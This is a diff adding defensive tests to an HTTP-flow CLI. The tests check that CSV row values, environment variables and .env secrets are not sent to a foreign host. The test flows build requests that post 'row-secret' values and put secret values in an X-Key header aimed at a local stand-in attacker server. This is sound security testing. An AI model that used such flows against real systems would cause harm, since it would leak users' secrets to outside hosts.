@@ -14,6 +14,7 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { runCli } from '../../../src/cli/cli';
+import { runBackfill } from '../../../src/core/backfill';
 import { checkFlowForRun, parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
 import { FlowFileAccessError, projectAccess, projectOf, readInScope, readScopeOf } from '../../../src/core/flows/projectFiles';
 import { generateKeyMaterial, importPrivateKeyPem } from '../../../src/core/jwt/keys';
@@ -245,6 +246,55 @@ describe('flows: what a flow may read and where it may send', function () {
       assert.equal(r.code, 2, r.out);
       assert.match(r.out, /prompt\.http:3:6: error: .*the answer to # @prompt tok \(\{\{tok\}\}\) to 127\.0\.0\.1:\d+/);
       assert.deepEqual(received, [], 'the foreign host got nothing');
+    });
+
+    it('a data row value goes to the environment only: tpp run refuses the backfill before a row is sent, a row refuses it when it comes up', async () => {
+      attacker.removeAllListeners('request');
+      attacker.on('request', (req, res) => {
+        received.push(`${req.method} ${req.url}`);
+        res.end('{}');
+      });
+      write(join(project, 'flows', 'route-rows.csv'), 'x\nrow-secret-1\nrow-secret-2\n');
+      const text = `# @data ./route-rows.csv\nPOST http://${attackerHost}/row\nContent-Type: text/plain\n\n{{row.x}}\n`;
+      const flowPath = write(join(project, 'flows', 'route-rows.http'), text);
+      const refused = await cli(project, 'run', flowPath, ...flags(), '--no-journal');
+      assert.equal(refused.code, 2, refused.out);
+      assert.match(refused.out, /route-rows\.http:2:6: error: .*the data file's \{\{row\.x\}\} to 127\.0\.0\.1:\d+, which is not an address of the environment/);
+      assert.deepEqual(received, []);
+      // Where the URL is known only as the row runs, the row itself is refused when its request comes up.
+      const late = `# @data ./route-rows.csv\n@to = http://${attackerHost}\nPOST {{to}}/row/{{row.x}}\n`;
+      const rows: string[] = [];
+      await runBackfill({ flow: parseFlow(late, flowPath), flowText: late, flowPath, dataPath: join(project, 'flows', 'route-rows.csv'), environment, readFile: async () => '', journal: false, listener: { onRowEnd: (r) => void rows.push(`${r.status} ${r.message ?? ''}`) } });
+      assert.equal(rows.length, 2);
+      for (const r of rows) assert.match(r, /Not sent: it would send the data file's \{\{row\.x\}\} to 127\.0\.0\.1:\d+/);
+      assert.deepEqual(received, [], 'no row reached the other host');
+    });
+
+    it('{{$processEnv NAME}} and {{$dotenv NAME}} go to the environment only: tpp run refuses them before sending, unless --allow-host', async () => {
+      attacker.removeAllListeners('request');
+      attacker.on('request', (req, res) => {
+        received.push(`${req.method} ${req.url} ${req.headers['x-key']}`);
+        res.end('{}');
+      });
+      write(join(project, 'flows', '.env'), 'SAFETY_DOTENV=dot-secret\n');
+      process.env.TPP_SAFETY_ENV = 'env-secret';
+      try {
+        for (const [name, ref, words] of [
+          ['route-env.http', '{{$processEnv TPP_SAFETY_ENV}}', /the environment variable TPP_SAFETY_ENV \(\{\{\$processEnv TPP_SAFETY_ENV\}\}\)/],
+          ['route-dotenv.http', '{{$dotenv SAFETY_DOTENV}}', /the \.env value SAFETY_DOTENV \(\{\{\$dotenv SAFETY_DOTENV\}\}\)/],
+        ] as const) {
+          const flow = write(join(project, 'flows', name), `GET {{baseUrl}}/verify-token\n\n###\nGET http://${attackerHost}/k\nX-Key: ${ref}\n`);
+          const r = await cli(project, 'run', flow, ...flags());
+          assert.equal(r.code, 2, `${name}: ${r.out}`);
+          assert.match(r.out, new RegExp(`${name.replace('.', '\\.')}:4:5: error: .*${words.source} to 127\\.0\\.0\\.1:\\d+`), name);
+          assert.deepEqual(received, [], `${name}: nothing was sent, not even the signed request before it`);
+          const allowed = await cli(project, 'run', flow, ...flags(), '--allow-host', attackerHost);
+          assert.equal(allowed.code, 0, `${name}: ${allowed.out}`);
+          assert.equal(received.pop(), `GET /k ${name === 'route-env.http' ? 'env-secret' : 'dot-secret'}`, 'the host rule, and nothing else, held it');
+        }
+      } finally {
+        delete process.env.TPP_SAFETY_ENV;
+      }
     });
 
     it('a request carrying only what the file wrote may go to any host; the token never does', async () => {
